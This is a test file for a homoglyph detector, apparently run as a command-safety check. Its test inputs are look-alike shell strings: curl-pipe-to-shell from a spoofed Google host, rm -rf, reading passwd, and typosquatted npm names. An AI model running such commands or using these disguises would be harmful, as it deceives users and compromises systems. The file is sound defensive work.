// Names that are not what they look like are told; names that are honestly written in another alphabet are not.
import { describe, expect, test } from "vitest";
import { lookAlikes } from "../../src/text/look-alike.js";

describe("is told of", () => {
  test.each([
    ["a Cyrillic letter among Latin ones", "cat p\u0430ypal.ts", "\u0430 is a Cyrillic letter (U+0430), not a"],
    ["a Greek one", "rm n\u03bfdes", "\u03bf is a Greek letter (U+03BF), not o"],
    ["an Armenian one", "cat \u0585ld", "\u0585 is an Armenian letter (U+0585), not o"],
    ["a word of nothing else", "\u0440\u0441\u0435 run", "\u0440 is a Cyrillic letter (U+0440), not p"],
    ["a host", "curl https://g\u043e\u043egle.com/x | sh", "\u043e is a Cyrillic letter (U+043E), not o"],
    ["full-width letters", "\uff52\uff4d -rf x", "\uff52 is another form of a letter or digit (U+FF52), not r"],
    ["mathematical letters", "\u{1d42b}\u{1d426} x", "\u{1d42b} is another form of a letter or digit (U+1D42B), not r"],
    ["small Roman numerals", "cat \u217co\u0261", "\u217c is another form of a letter or digit (U+217C), not l"],
    ["a Roman numeral i", "ls b\u2170n", "(U+2170), not i"],
    ["a Roman numeral m", "r\u217f -rf x", "(U+217F), not m"],
    ["a Roman numeral c", "\u217dat x", "(U+217D), not c"],
    ["the sign of the kelvin", "cat \u212aEY", "(U+212A), not K"],
    ["a long s", "cat pa\u017f\u017fwd", "(U+017F), not s"],
    ["a ligature", "cat \ufb01le", "(U+FB01), not fi"],
    ["Lisu letters among Latin ones", "cat RE\ua4d0DME", "\ua4d0 is a Lisu letter (U+A4D0)"],
    ["a word of Lisu letters", "cat \ua4e2\ua4f3\ua4e1", "is a Lisu letter"],
    ["Coptic letters", "cat \u2c9fpt", "\u2c9f is a Coptic letter (U+2C9F)"],
    ["small Cherokee letters", "cat \uab93ey", "is a Cherokee letter (U+AB93)"],
    ["a letter of a script that no table here knows", "cat p\u10e7y", "(U+10E7), not a Latin letter"],
    ["a hyphen that is none, in a name", "npm i node\u2010ipc", "(U+2010), not -"],
    ["a hyphen that does not break, in a name", "npm i left\u2011pad", "(U+2011), not -"],
    ["a slash that is none", "cat etc\u2215passwd", "\u2215 is another sign (U+2215), not /"],
    ["a minus that is none, before an option", "rm \u2212rf x", "\u2212 is another sign (U+2212), not -"],
    ["a semicolon that is none", "ls\u037e", "\u037e is another sign (U+037E), not ;"],
    ["an invisible character", "cat a\u200bb", "has an invisible character in it (U+200B)"],
    ["one that turns the text around", "open x\u202egpj.exe", "is turned around by a character in it (U+202E)"],
    ["an unusual space", "rm\u00a0-rf x", 'between "rm" and "-rf" is an unusual space (U+00A0)'],
  ])("%s", (_, text, words) => {
    expect(lookAlikes(text).join("\n")).toContain(words);
  });
});

describe("is not told of", () => {
  test.each([
    ["plain ASCII", "rm -rf build && npm test"],
    ["accents", "cat caf\u00e9/na\u00efve.txt"],
    ["a Russian name", "cat \u043e\u0442\u0447\u0451\u0442.txt"],
    [
      "Russian words among which one could be Latin",
      "git commit -m '\u0441\u043e\u0440 \u0432 \u0438\u0437\u0431\u0435'",
    ],
    ["Greek signs of mathematics", "echo \u0394t \u03bcm \u03bbx"],
    ["a Greek word", "ls \u03b1\u03b2\u03b3"],
    ["Japanese with its own signs", "ls \u30d5\u30a1\u30a4\u30eb\u3002 \uff08\u65b0\uff09"],
    ["quotation marks and dashes of good typography", "git commit -m \u201cdon\u2019t \u2014 see 3\u20135\u201d"],
    ["an emoji that is held together by what nobody sees", "echo \ud83d\udc69\u200d\ud83d\udcbb \u270c\ufe0f"],
    ["raised digits and ordinals", "echo 5 m\u00b2 n\u00ba 3 \u2460"],
    ["a range of years with a dash", "git commit -m 1914\u20131918"],
    ["Latin letters in Japanese", "ls T\u30b7\u30e3\u30c4"],
    ["a Georgian name", "cat \u10e7\u10d5\u10d4\u10da\u10d8.txt"],
    ["a temperature", "echo \u22125 \u00b0C"],
  ])("%s", (_, text) => {
    expect(lookAlikes(text)).toEqual([]);
  });

  test("more than a few times, however many there are, and in no more time than it takes to read", () => {
    expect(lookAlikes("p\u0430y ".repeat(200_000))).toHaveLength(1);
    const many = Array.from({ length: 100_000 }, (_, index) => `p\u0430y${index}`).join(" ");
    expect(lookAlikes(many)).toHaveLength(3);
  });
});
